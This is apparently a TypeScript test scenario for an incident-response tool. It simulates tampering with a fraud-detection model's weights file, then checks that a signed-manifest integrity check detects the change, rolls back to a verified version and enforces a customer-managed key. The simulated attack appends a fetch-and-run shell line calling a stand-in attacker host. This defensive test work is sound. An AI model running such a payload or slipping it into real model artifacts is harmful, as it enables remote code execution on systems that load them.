import { verifyArtifacts } from "@airr/core";
import { publishVersion, REGISTRY_STORE, readVersion, releaseKeys } from "../modelRegistry.js";
import type { Scenario } from "../Scenario.js";

const ENDPOINT = "fraud-detector";
const VERSIONS = ["fraud-v1", "fraud-v2", "fraud-v3"];
const KMS_KEY = "local-kms/airr-cmek";
const CHECK_EVERY = 60;

const policy = `apiVersion: airr/v1
kind: PolicyList
policies:
  - name: tampered-model-restore
    description: Serve the newest version whose artifacts verify, then put the endpoint under the customer-managed key.
    match: { alertName: model-integrity-failure, labels: { integrity: restorable } }
    actions:
      - action: rollback-model
        params: { endpoint: "\${alert.resourceId}", toVersion: "\${alert.labels.verified_version}" }
      - action: enforce-cmek
        params: { resource: "\${alert.resourceId}", kmsKeyId: "\${alert.labels.kms_key}" }
    guardrails: { blastRadius: { maxTargets: 1 } }
  - name: tampered-model-contain
    description: No version verifies; stop serving until a clean release exists.
    match: { alertName: model-integrity-failure, labels: { integrity: no-verified-version } }
    actions:
      - action: disable-endpoint
        params: { endpoint: "\${alert.resourceId}" }
`;

/** A model artifact is swapped in the registry; the pre-serving integrity check catches it. */
export const compromisedWeights: Scenario = {
  name: "compromised-weights",
  title: "Compromised model weights",
  summary:
    "An attacker replaces the serving version's weights file in the model registry. The integrity check (SHA-256 manifest, Ed25519-signed at release) runs before serving and every minute; it fails, the newest version whose digests verify is restored and the endpoint is put under the customer-managed key.",
  runbook: "compromised-weights",
  detector: {
    name: "artifact-integrity",
    source: "real",
    description:
      "verifyArtifacts (@airr/core): every file's SHA-256 and size against the signed manifest; score = failed files",
    config: { checkEverySeconds: CHECK_EVERY, threshold: 1, signature: "ed25519 required" },
  },
  policy,
  async run(ctx) {
    const { cloud, clock, rng } = ctx;
    const keys = releaseKeys(rng);
    for (const version of VERSIONS) await publishVersion(cloud, ENDPOINT, version, rng, keys, clock.iso());
    ctx.log("setup", `published signed manifests for ${VERSIONS.join(", ")} in ${REGISTRY_STORE}/models/${ENDPOINT}/`);
    const check = async (version: string) => {
      const { manifest, observed } = await readVersion(cloud, ENDPOINT, version);
      return verifyArtifacts(manifest, observed, { publicKeyPem: keys.publicPem });
    };
    const serving = async () => (await cloud.endpoints.get(ENDPOINT))?.currentVersion ?? "none";
    const attackAt = 300 + rng.int(1, 5) * 10;
    let tampered = false;
    let alerted = false;
    let nextCheck = 0;
    while (clock.t <= 900) {
      if (!tampered && clock.t >= attackAt) {
        const key = `models/${ENDPOINT}/fraud-v3/model.safetensors`;
        const original = await cloud.data.readObject(REGISTRY_STORE, key);
        const payload = new TextEncoder().encode("\nimport os; os.system('curl attacker.example | sh')");
        await cloud.data.putObject(REGISTRY_STORE, key, Buffer.concat([original, payload]));
        tampered = true;
        ctx.attack(`attacker overwrites ${key} in the registry (AML.T0010.003)`, { bytesAdded: payload.byteLength });
      }
      if (clock.t >= nextCheck) {
        nextCheck += CHECK_EVERY;
        const version = await serving();
        const result = await check(version);
        const failed = result.mismatched.length + result.missing.length + result.unexpected.length;
        ctx.observe({ score: failed + (result.signature === "valid" ? 0 : 1), threshold: 1, detected: !result.ok });
        if (!result.ok && !alerted) {
          alerted = true;
          ctx.detect(`integrity check of ${ENDPOINT}@${version} failed`, {
            mismatched: result.mismatched.map(
              (m) => `${m.path}: ${m.expectedSha256.slice(0, 12)}… ≠ ${m.actualSha256.slice(0, 12)}…`,
            ),
            signature: result.signature,
          });
          // The responder's automation checks older versions, newest first, before restoring one.
          const verified: string[] = [];
          for (const v of [...VERSIONS].reverse()) if ((await check(v)).ok) verified.push(v);
          const restore = verified[0];
          ctx.log("detection", `versions whose artifacts verify: ${verified.join(", ") || "none"}`);
          ctx.alert({
            alertName: "model-integrity-failure",
            alertId: `local:alert/${ENDPOINT}/integrity`,
            severity: "critical",
            resourceId: ENDPOINT,
            metricName: "airr_artifact_integrity_failures",
            labels: {
              integrity: restore === undefined ? "no-verified-version" : "restorable",
              verified_version: restore ?? "none",
              kms_key: KMS_KEY,
            },
          });
        }
      }
      await ctx.advance(10);
    }
    const state = await cloud.endpoints.get(ENDPOINT);
    ctx.expect(
      "endpoint serves a verified version",
      state?.status === "in-service" && state.currentVersion === "fraud-v2",
      `${state?.status} on ${state?.currentVersion}`,
    );
    const final = await check(state?.currentVersion ?? "fraud-v2");
    ctx.expect(
      "serving artifacts verify against the signed manifest",
      final.ok,
      `signature ${final.signature}, ${final.mismatched.length} mismatched`,
    );
    const enc = await cloud.encryption.get(ENDPOINT);
    ctx.expect(
      "restored endpoint is encrypted with the CMEK",
      enc?.kmsKeyId === KMS_KEY,
      `key ${enc?.kmsKeyId ?? "provider-managed"}`,
    );
    const answer = await cloud.invoke(ENDPOINT);
    ctx.expect(
      "requests are answered by the restored version",
      answer.version === "fraud-v2",
      `answered by ${answer.version}`,
    );
  },
};
